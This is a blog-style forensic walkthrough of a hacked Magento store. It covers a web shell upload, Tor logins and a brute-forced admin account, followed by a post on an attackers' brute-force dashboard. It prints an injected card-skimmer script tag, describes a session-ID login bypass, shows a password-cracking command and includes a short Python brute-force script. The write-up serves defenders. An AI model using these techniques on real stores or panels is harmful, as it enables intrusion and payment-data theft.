A Magento breach analysis (part 1)


Part of a series where Magento security professionals share their case notes, so that we can ultimately distill a set of best practices, tools and workflow.

Part of the job of running the MageReport service is that I get to investigate tons of hacked stores. About 50-200 new stores get hacked per day, so I figured I’d walk you through an investigation of a recent case. Some basic programming and Linux knowledge assumed. All names/hashes/passes in this article are anonymized.

1. Hack detected?

My malware scanner does a nightly scan of all our servers. This morning I got alerted on a store that is completely patched, but still showed suspicious code:

$ mwscan /data/web/public/
/data/web/public/media/tmp/shs.php: obfuscated_evalAnd the file starts with:

$auth_pass = "";
$default_action = 'FilesMan';
// and so on

Indeed fishy!  Supposedly it’s a web-based file manager, which is often used to upload more malware or to ensure future access. Second, preg_replace with the /e modifier is a common way to implement eval in PHP and to evade malware scanners.

But is it malicious? We are not going to run it; it might alert the intruder. If this sitewas actively using git, we could have consulted the commit history and then check with the original developer whether the file is legitimate. In this case, the site is not using git (or, no published metadata) but for now I assume that the detected file is Not Good.

2. Pick an approach

My goal is to obtain a complete overview of the intruder’s entry point and actions. Any privileges that the intruder may still have, can be removed and any damage can be undone.

I don’t want to alert the intruder before the investigation is finished. It might trigger him/her to “pull the trigger” (delete everything to destroy traces). Fabian Blechschmidt noted that it is better to pull the plug and investigate an isolated server instead. That is very true, but not always feasible, as the merchant might not agree.

In this case, I won’t disable any backdoors or rogue accounts, until I know exactly what has happened. Only then can I be reasonably confident that I can close all the privileges/backdoors at the same time. One missed backdoor is enough to start all over again next week!

During the investigation I keep a logbook (simple markdown file) where I collect hypotheses, timestamps, circumstantial/hard evidence, and todos.

3. Preserve potential evidence

First, I copy all the relevant data to a safelocation, in case the intruder gets anxious and starts cleaning up. This includes site files, databases, and web-, firewall-, system- and database logfiles.

Important: the server cannot be trusted for now, so I should not push files from it, but ratherpull them from another, trusted server. In other words, I should not initiate authorized connections from the compromised server. Also, I should not use SSH agent forwarding, because one could theoretically hijack my keys.

For copying data: if I can, I use dd to make an exact copy of the block device. If that’s not possible, I use rsync -a which preserves at least most file attributes.

A law-enforcement forensics team would come in a black van, hotwire the AC power, freeze the compromised server and clone RAM and disks. This is an obviously better approach, but black vans are pricey and for most Magento breaches not required.

4. Establish a timeline

What happened when?

$ ls -l /data/web/public/media/tmp/shs.php-rw-rw-rw- 1 app app 24726 Sep 11 2014 /data/web/public/media/tmp/shs.php

2014, really? This file was not detected yesterday. What you see is the last modification time (aka mtime). This is trivial to tamper (eg. with touch -am). The stat tool tells us more:

$ stat /data/web/public/media/tmp/shs.php
Access: 2017-03-20 07:16:27.882583096 +0000
Modify: 2014-09-11 12:34:35.000000000 +0000
Change: 2017-03-20 07:16:27.890583097 +0000

On most Linux systems, the change time (ctime) cannot be modified by non-root users, so this is fairly reliable. In this case, it was modified less than 48 hours ago, great! As logs are often purged after 2-4 weeks, the fresher the traces, the better.

Also, I verified the timezone of the server. If it is not UTC, I should convert all timestamps to a standard time, so I can correlate it with other sources.

5. Collect traces & evidence

What happened here on the 20th of March, 07:16:27 UTC? In practice, most PHP malware is uploaded through HTTP, so I check the webserver logs first. I filter all requests within 2 minutes before and after our timestamp.

This is a busy site, so I further narrow down the relevant log lines by filtering POST requests, as these are most often used to transform or upload data.

$ zcat -f /var/log/nginx/access.log* | grep '2017-03-20T07:16:'  | grep POST
2017-03-20T07:16:03+00:00 FR POST/index.php/myadmin/catalog_category/save/?isAjax=true HTTP/1.1
2017-03-20T07:16:04+00:00 FR POST /index.php/myadmin/catalog_category/edit/id/885/?isAjax=true&isAjax=true HTTP/1.1
2017-03-20T07:16:27+00:00 FR POST /index.php/myadmin/newsletter_template/preview/ HTTP/1.1
2017-03-20T07:16:27+00:00 FR POST /index.php/myadmin/newsletter_template/drop/ HTTP/1.1
2017-03-20T07:16:52+00:00 FR POST /index.php/myadmin/catalog_category/delete/id/885/_blcg_token_/<snip>/?isAjax=true&isAjax=true HTTP/1.1

Presto, we have an exact timestamp match!

Sidenote: your log format might be different and not contain a country code. Hint, use the geoiplookup utility.

Now, this suggests that the malware was installed by an authorized call to the newsletter system. This is pretty worrying, as:

  1. The intruder has an admin account to the store
  2. The intruder knows the secret location of the backend panel

The login came from a French IP. Now I happen to know that this merchant does not have staff in France, but to be sure I check the IP owner:

$ whois
netname:        NET-TTNN-NOS-OIGNONS
descr:          Subnet Nos Oignons chez TTNN

Nos oignons? This appears to be a Tor exit node. No legitimate merchant staff would use the Tor network for store administration.

Building a narrative

What else has this IP requested?

# only a few lines shown for brevity
$ zcat -f access.log.4.gz | grep
2017-03-20T07:11:07+00:00 FR GET /index.php/myadmin/sales_order/?SID=<snip> HTTP/1.1
2017-03-20T07:11:08+00:00 FR GET /media/css_secure/02c96sddefddba3fcc06108256401ece4.css HTTP/1.1
2017-03-20T07:14:21+00:00 FR POST /index.php/myadmin/system_config/save/section/design/ HTTP/1.1
2017-03-20T07:14:51+00:00 FR POST /index.php/myadmin/cache/massRefresh/ HTTP/1.1
2017-03-20T07:16:42+00:00 FR GET /media/tmp/shs.php HTTP/1.1

And the user-agent header for all these requests:

Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0

There are many clues hidden here.

  1. The first request is not a login request, which implies that there are more relevant requests but probably from a different IP.
  2. The intruder fetches static assets and the requests are distributed over the timeframe of a few minutes. This suggests that an actual human is interacting with the control panel, and not an automated worm. Somebody took quite some effort here! Also, I would speculate that the intruder is not in the UTC timezone, as those black hats are known to be sound asleep between 6 and 11 am ;)
  3. The intruder fetches the file manager a few seconds after it was created, likely to verify whether the upload had succeeded.4. The given user agent is not very common, as it is more than a year old (Firefox release history). So it could be fake, or an old browser bundled with the Tor client. I should look for other requests with this agent.
  5. Something was saved in the design section of the panel and the cache was refreshed. I should verify whether the templates have been tampered with.

So far, we have found that somebody tried to hide their identity and that an obfuscated PHP file was installed through the newsletter module. Enough indicators to assume that the file is malicious and somebody gained unauthorized access to the backend.

Somebody lost their password

Now, which admin account was used here? Unfortunately, that is not logged on most systems (as it is part of the POST data). But perhaps I can infer it from other sources.

First, I check whether any admin accounts are likely inserted using SQL injection. As most attackers are too lazy to fill all the non-required fields, I check for admin accounts that have NULL fields:

$ echo 'select email,username,created,modified
    from admin_user' | n98-magerun db:console

In this case, no NULL fields showed up, so likely all the admin accounts are in use as legitimate accounts, and one has been compromised. But which? We can check the last login date:

$ echo 'select username,logdate from admin_user
    order by logdate' | magerun db:console
<snip> 2017-03-20 06:56:56
<snip> 2017-03-20 07:18:53
<snip> 2017-03-20 07:20:39
[..long list of users..]
<snip> 2017-03-20 09:38:29
<snip> 2017-03-21 08:26:18
<snip> 2017-03-21 13:52:27

Ouch, based on the timestamps, that still leaves us with a gazillion possibly compromised accounts.

Logging in without logging in

Let’s take a step back: how did the intruder log in to the backend panel in the first place? I search the logs forsuspicious backend logins (POSTs to /myadmin) but cannot find anything. Then I search for the specific user agent and I also look for any given basic auth usernames:

$ zcat access.log.4.gz | grep 'Firefox/45.0'
2017-03-20T07:09:48+00:00 US - GET /rss/catalog/notifystock/ HTTP/1.1
2017-03-20T07:10:02+00:00 US mike GET /rss/catalog/notifystock/ HTTP/1.1
2017-03-20T07:11:07+00:00 FR - GET /index.php/myadmin/sales_order/?SID=<snip> HTTP/1.1

Bingo! A minute before our French Tor friend enters the backend panel, a basic auth request (“mike”) is made to the catalog RSS endpoint, using a US Tor IP.

But wait, can this be used as an alternative method to log in to the backend? I try to replicate it on a test store. Given the right password, the notifystock endpoint indeed reveals the secret address to the backend panel. But I cannot login though. Wait, notifystock sends a PHPSESS cookie with a hash value. What if I append this value as ?SID=xyz to a backend address? Indeed, that works! This seems like a lot of trouble to circumvent the regular backend login page. Perhaps the intruder uses it to evade login POST access control, a common security filter. This required copy-pasting of the session cookie could also explain why there is a minute between the notifystock hit and the first backend request.

So I’veestablished that at least the mike admin account is compromised. To quickly check whether any weak passwords wereused, I use this cool magerun plugin written by Peter O’Callaghan:

$ n98-magerun hypernode:crack:admin-passwords --active --force --rulesets=best64 1000 special vendors -v

[8/13] Cracking mike
   29876/211981 [===>---]  14% < 1 sec 16.0 MiB

| User          | Hash       | Cracked | Password  |
| mike          | 557466e... | Yes     | mike123   |

Right, username + 123 is probably not such a strong password. I check the logs and find that in the last week, brute forcers have tried to guess the passwords for 5481 accounts.

Couldn’t we block this? Our systems use adaptive filtering which blocks access after a few unsuccessful login attempts, however brute forcers have recently started to use botnets and Tor nodes. These distributed attack sources are harder to identify, see also my call for honeypot volunteers.Adding up, it seems highly likely that the mike account got brute forced.

6.Finding other hack artifacts

Remember that the intruder modified the design earlier? Let’s see if anything ended up in the header or footer:

$ n98-magerun config:get 'design*'design/footer/absolute_footer: <script src="https://analiticoscdn.com/js/static.js" type="text/javascript"></script>

Indeed, a remote Javascript file is injected in every page (readable copy here). No surprise: it skims payment data and forwards it to a server registered in Vladivostok. However, it’s the first time I see a malware that was specifically written to intercept major payment providers such as Stripe, Adyen, Pin Payments, Eway Rapid and Heidelpay.

Finally, I routinely check other areas for possible artifacts. Anything on the filesystem that was modified within the last 48 hours:

$ find /data/web -type f -ctime -2

Possible a rogue cron was inserted?

$ crontab -l -u app

Rogue background processes?$ pgrep -lu app

Rogue database triggers? Yes, they exist.

echo 'SHOW TRIGGERS' | n98-magerun db:console

These produced no further suspicious traces.

7. Conclusion

I’ve walked you through a pragmatic investigation of a Magento hack. What I discovered:

Up next: I invite two professionals to share their case workflow, so we can all learn from them:

An OpenCart/Magento hacking dashboard

This post shows how sophisticated Magento hacking operations have become nowadays.

While investigating a bruteforced Magento store, I noticed that the hacker logged in using a curious referrer site:"GET /rss/catalog/notifystock/ HTTP/1.1" 200 5676 ""

The site at shows:

brute force dashboard

A “Magento report panel” asks for a Пароль (password). In the page source (beautified JS here) are some clues about its password protected functionality:

$.post("/home/getServers", function(n) {
$.post("/home/GetCountGoodLastDay", function(n) {
$.post("/home/GetCountServerLastDay", function(n) {
$.post("/home/GetCountSuccessLastDay", function(n) {
$.post("/home/ChangeMarkState", {
$.post("/home/ChangeComment", {
$.post("/home/getCount", {
$.post("/home/ChangeShell", {
$.post("/home/ChangeReservedLogins", {Apparently somebody has built a sophisticated dashboard to manage bruteforce Magento hacking operations. It appears to show the daily progress on hacked Magento stores and it has a GUI method to mark found servers as “success”.Also, it can be used to log in to the backend of hacked stores.

I checked my forensic notes of previous cases and found that this dashboard was used in at least one other case. Sysadmins, check your server logs.

Update April 11th: Super-sleuth Len Lorijn noted that an “Opencart Report Panel” is running on the same server. This signifies that e-commerce hackers are platform agnostic. If there’s money flowing through it, it’s worth hacking.

Returning the favour

What if the bruteforcer got bruteforced? Now, I won’t do that, as it is not allowed in my country. But in theory, you could use something like this (provided for educational purposes only):

#!/usr/bin/env python3
Brute force the admin password
of a Russian brute forcer's admin panel

import requests
URL = ''

print("Downloading Russian wordlist...")
wordlist = requests.get('https://github.com/svetlitskiy/wordlist-russian/blob/master/russian-words.json?raw=true').json()

for word in wordlist:
    print("Trying {}".format(word.encode('utf-8')))
    resp = requests.post(URL, data=dict(Password=word))
    if resp.status_code == 200 and 'form action="/Account/Login"' not in resp.content:
        print("{} looks good!".format(word.encode('utf-8')))

Wanted: online stores that have quit

Are you planning to shut down your online store? Sorry to hear that. However, your domain name could be a valuable tool to trap hackers. Please consider donating your online presence to the good cause: fighting online fraud.

